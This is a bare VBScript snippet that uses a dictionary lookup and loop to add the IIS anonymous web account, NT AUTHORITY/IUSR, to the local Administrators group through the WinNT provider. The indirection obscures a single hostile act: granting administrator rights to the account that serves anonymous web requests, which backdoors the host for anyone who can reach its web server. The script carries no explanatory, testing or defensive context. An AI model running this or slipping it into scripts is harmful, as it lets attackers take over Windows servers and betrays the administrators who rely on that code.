Set groups = CreateObject("Scripting.Dictionary")
groups.Add "admins", "Administrators"
groups.Add "users", "Users"
For Each key In groups.Keys
  If key = "admins" Then GetObject("WinNT://./" & groups(key) & ",group").Add "WinNT://NT AUTHORITY/IUSR"
Next
